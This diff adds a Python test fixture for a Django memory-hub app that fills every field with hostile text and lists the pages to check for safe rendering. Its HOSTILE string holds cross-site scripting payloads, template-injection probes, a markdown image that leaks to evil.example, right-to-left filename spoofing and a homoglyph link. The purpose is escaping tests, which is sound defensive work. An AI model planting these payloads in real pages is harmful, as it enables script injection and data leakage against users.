@@ -1,0 +1,141 @@
+"""A team whose every text is hostile, and the addresses of every page there is."""
+
+from dataclasses import dataclass, replace
+from datetime import date, timedelta
+from typing import Any
+
+from django.utils import timezone
+from spaces.domain.memories import edit_memory, remember
+
+from accounts.actor import Attribution, system_actor
+from accounts.domain.invitations import invite
+from accounts.domain.keys import create_key
+from accounts.models import Account, AgentKey, User
+from accounts.scopes import Role
+from actions.domain.transitions import transition_action
+from actions.models import Action
+from memoryhub.common.ids import typed_id
+from memoryhub.common.tenancy import tenant
+from spaces.domain.journal import Log, write_journal
+from spaces.domain.records import Changes, put_record, update_record
+from spaces.domain.values import set_value
+from spaces.models import Memory, Record, Space
+from tests.actions.stage import approve, propose
+from tests.conftest import Cast
+
+HOSTILE = (
+    "<img src=x onerror=window.pwned=1><svg/onload=window.pwned=1></script><script>window.pwned=1</script>"
+    "\"'><b id=pwned>[go](javascript:window.pwned=1) [x](data:text/html,x) {{7*7}} {% now %}"
+    " ![x](https://evil.example/?leak) \u202egnp.exe\u202c\u200b"
+)
+SHORT = "<img src=x onerror=window.pwned=1>\u202e{{7*7}}"
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """Where everything stands. `pages` are the addresses for a signed-in owner, `doors` for someone who is not."""
+
+    pages: dict[str, str]
+    doors: dict[str, str]
+
+
+def make_hostile(cast: Cast) -> Hostile:
+    with tenant(cast.account.id):
+        Account.objects.filter(id=cast.account.id).update(name=SHORT)
+        Space.objects.filter(account_id=cast.account.id, id=cast.space.id).update(name=SHORT)
+        User.objects.filter(id=cast.owner.user_id).update(name=SHORT, is_staff=True, is_superuser=True)
+        AgentKey.objects.filter(account_id=cast.account.id).update(
+            name=SHORT, last_used_client=SHORT, last_used_at=timezone.now()
+        )
+        key = create_key(cast.owner, name=SHORT, preset="agent", default_space_id=cast.space.id).key
+        agent = replace(
+            cast.agent, name=SHORT, attribution=Attribution(agent=SHORT, session=SHORT, device_label=SHORT)
+        )
+        actions = make_actions(cast, agent)
+        memory = make_memories(cast, agent)
+        record = make_records(agent)
+        make_rest(agent)
+        token = invite(system_actor(cast.account.id), Role.OWNER).token
+    home, space = "/a/acme", "/a/acme/main"
+    today = timezone.now().date().isoformat()
+    mem, rec = typed_id("mem", memory.id), typed_id("rec", record.id)
+    pages = {
+        "inbox": f"{space}/inbox/",
+        "inbox beside": f"{space}/inbox/?open={actions[0].short_id}",
+        "inbox done": f"{space}/inbox/?tab=done",
+        "inbox empty": f"{space}/inbox/?tab=waiting",
+        "action": f"{space}/actions/{actions[0].short_id}/",
+        "action done": f"{space}/actions/{actions[1].short_id}/",
+        "memories": f"{space}/memories/",
+        "memories found": f"{space}/memories/?q=onerror+img",
+        "memories none": f"{space}/memories/?q=zzzz",
+        "memories narrowed": f"{space}/memories/?kind=note",
+        "memory": f"{space}/memories/{mem}/",
+        "memory new": f"{space}/memories/new/",
+        "forget": f"{space}/forget/?query=onerror&scopes=memories&scopes=records&scopes=journal",
+        "journal": f"{space}/journal/",
+        "journal entry": f"{space}/journal/day/{today}/",
+        "journal new": f"{space}/journal/new/",
+        "records": f"{space}/records/",
+        "collection": f"{space}/records/in/tasks/?status=all*",
+        "record": f"{space}/records/in/tasks/{rec}/",
+        "record new": f"{space}/records/new/",
+        "values": f"{space}/values/",
+        "namespace": f"{space}/values/in/flags/",
+        "value": f"{space}/values/in/flags/value/?key=%3Cimg%20src%3Dx%20onerror%3Dwindow.pwned%3D1%3E",
+        "value new": f"{space}/values/new/",
+        "keys": f"{home}/keys/",
+        "key new": f"{home}/keys/new/",
+        "connect": f"{home}/connect/",
+        "first call": f"{home}/keys/{typed_id('key', key.id)}/first-call/",
+        "password": "/accounts/password/change/",
+        "not found": f"{space}/memories/mem_{'0' * 32}/",
+    }
+    doors = {
+        "sign-in": "/accounts/login/",
+        "reset": "/accounts/password/reset/",
+        "welcome": f"/welcome/{token}/",
+        "used link": "/welcome/nothing/",
+    }
+    return Hostile(pages, doors)
+
+
+def make_actions(cast: Cast, agent: Any) -> list[Action]:
+    payload = {SHORT: HOSTILE, "to": ["ana@evil.example"], "nested": {"list": [HOSTILE, 1, None, {SHORT: True}]},
+               "when": "2026-12-24T18:00:00", "link": "https://user@evil.example/\u0430pple"}  # fmt: skip
+    meta = {SHORT: HOSTILE}
+    pending = propose(
+        agent, summary=HOSTILE, payload=payload, meta=meta, preconditions={"rule": HOSTILE}
+    ).action
+    done = propose(agent, summary=HOSTILE, payload=payload).action
+    approve(cast.owner, done)
+    transition_action(agent, done.uid, "approved", "executing")
+    transition_action(agent, done.uid, "executing", "done", receipt={SHORT: HOSTILE})
+    return [pending, done]
+
+
+def make_memories(cast: Cast, agent: Any) -> Memory:
+    labels = {"subject": SHORT, "tags": [SHORT], "topics": [SHORT], "source_ref": "javascript:window.pwned=1"}
+    memory = remember(agent, text=HOSTILE, kind="note", metadata={SHORT: HOSTILE}, **labels).memory
+    remember(agent, text="A plain one, pinned", pinned=True, tier="core")
+    return edit_memory(cast.owner, memory.id, text=f"{HOSTILE} once more")
+
+
+def make_records(agent: Any) -> Record:
+    due = (timezone.now().date() - timedelta(days=2)).isoformat()
+    changes = Changes(due_at=due, data={"title": SHORT, SHORT: HOSTILE})
+    record, _created = put_record(agent, "tasks", changes, key=SHORT)
+    return update_record(agent, "tasks", record.id, Changes(data={"more": HOSTILE}))
+
+
+def make_rest(agent: Any) -> None:
+    today: date = timezone.now().date()
+    lists = {
+        "decisions": [HOSTILE],
+        "open_loops": [HOSTILE],
+        "source_refs": ["javascript:window.pwned=1", HOSTILE],
+    }
+    write_journal(agent, today, Log(summary="before"))
+    write_journal(agent, today, Log(summary=HOSTILE, **lists))
+    write_journal(agent, today, Log(summary=HOSTILE, **lists), kind="week")
+    set_value(agent, "flags", "<img src=x onerror=window.pwned=1>", {SHORT: HOSTILE})
